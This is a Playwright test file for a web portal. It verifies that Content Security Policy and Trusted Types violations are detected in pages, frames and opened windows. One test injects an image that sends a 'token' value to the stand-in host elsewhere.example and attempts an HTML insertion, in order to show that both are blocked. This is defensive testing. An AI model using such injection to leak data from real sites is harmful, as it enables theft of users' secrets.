import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from '@playwright/test';
import { expect, test as testOnStage } from './support/stage.ts';
import { newApplicant } from './support/applicant.ts';
import { PATIENCE_MS } from './support/expect.ts';
import { registerByCall } from './support/applicant-by-call.ts';
import { openVisitor } from './support/visitor.ts';
import { waitForMail } from './support/portal/dev-mailbox.ts';

const PAGES: Record<string, { policy: string; body: string }> = {
  '/page': { policy: "default-src 'none'", body: '<h1>Page</h1><p style="color: red">styled</p>' },
  '/frames': {
    policy: "default-src 'none'; frame-src 'self'",
    body: '<h1>Frames</h1><iframe src="/sandboxed"></iframe>',
  },
  '/sandboxed': {
    policy: "default-src 'none'; sandbox",
    body: '<img src="https://elsewhere.example/x.png">',
  },
  '/clean': { policy: "default-src 'none'", body: '<h1>Clean</h1>' },
};

/** Not the portal: pages that break their own policies. */
const serveBadPages = async (): Promise<Server> => {
  const server = createServer((request, response) => {
    const { policy, body } = PAGES[request.url ?? ''] ?? { policy: '', body: '' };
    response.setHeader('content-security-policy', policy);
    response.setHeader('content-type', 'text/html');
    response.end(`<!doctype html><title>Bad</title>${body}`);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return server;
};

const test = testOnStage.extend<{ badAddress: string }>({
  async badAddress({ browserName: _ }, provide) {
    const bad = await serveBadPages();
    const { port } = bad.address() as AddressInfo;
    await provide(`http://127.0.0.1:${port}`);
    bad.close();
  },
});

/** The browser's own words for what is looked for here by asking it. */
const POLICY = /Content Security Policy|requires 'TrustedHTML'/;

/** A visitor of no stage, whose faults are looked at here and fail nothing else. */
const faultsAfter = async (
  browser: Browser,
  address: string,
  visit: (page: Page) => Promise<void>,
): Promise<string[]> => {
  const { page, context, faults, settled } = await openVisitor(browser, { address, mayLog: POLICY });
  await visit(page);
  await page.waitForLoadState('networkidle');
  await settled();
  await context.close();
  return faults;
};

for (const [path, expected] of [
  ['/page', [/style-src/]],
  ['/frames', [/img-src .*elsewhere\.example/]],
  ['/clean', []],
] as const) {
  test(`what breaks a policy at ${path} is noticed, in frames without scripts too`, async ({
    browser,
    badAddress,
  }) => {
    const faults = await faultsAfter(browser, badAddress, async (page) => {
      await page.goto(path);
    });
    expect(faults).toEqual(expected.map((words) => expect.stringMatching(words)));
  });
}

test('a window that a page opens is watched like the page', async ({ browser, badAddress }) => {
  const faults = await faultsAfter(browser, badAddress, async (page) => {
    await page.goto('/clean');
    const opened = page.context().waitForEvent('page');
    await page.evaluate(() => void window.open('/page'));
    await (await opened).waitForLoadState('networkidle');
  });
  expect(faults).toEqual([expect.stringContaining('style-src')]);
});

test('what gets into a page of the portal can neither run nor send anything away, and is noticed', async ({
  browser,
  stage,
}) => {
  const faults = await faultsAfter(browser, stage.portal.address, async (page) => {
    await page.goto('/');
    await page.evaluate(() => {
      const image = document.createElement('img');
      image.src = `https://elsewhere.example/?token=${localStorage.length}`;
      document.body.append(image);
      try {
        document.body.insertAdjacentHTML('beforeend', '<b>inserted</b>');
      } catch {
        // Trusted Types refuse it, which is noticed below.
      }
    });
    expect(await page.getByText('inserted').count()).toBe(0);
  });
  expect(faults.toSorted()).toEqual([
    expect.stringContaining('img-src'),
    expect.stringContaining('require-trusted-types-for'),
  ]);
});

test('no page beside the portal’s own breaks its policy either', async ({ stage }) => {
  const { address } = stage.portal;
  const applicant = newApplicant();
  await registerByCall(address, applicant);
  const { id } = await waitForMail(address, applicant.email, /activate/i);
  const { page, settled, faults } = await stage.visit();
  for (const path of [`/dev/mail?id=${id}`, `/dev/mail/${id}`, '/docs/', '/__pay/control', '/__pay/frame']) {
    await page.goto(path);
    await page.waitForLoadState('networkidle');
    await settled();
    expect([path, faults]).toEqual([path, []]);
  }
});

test('the viewer shows of every call who may make it', async ({ stage }) => {
  const { page } = await stage.visit();
  // Of so many calls the viewer draws those in view: each has a link of its own.
  await page.goto('/docs/#/Office/setRole');
  // It reads the whole description first, which takes it long beside other journeys.
  await expect(page.getByRole('button', { name: /POST \/api\/people\/setrole/ }).first()).toBeVisible({
    timeout: 4 * PATIENCE_MS,
  });
  await expect(page.getByText('Owners with a second factor. Does not work while')).toBeVisible();
});
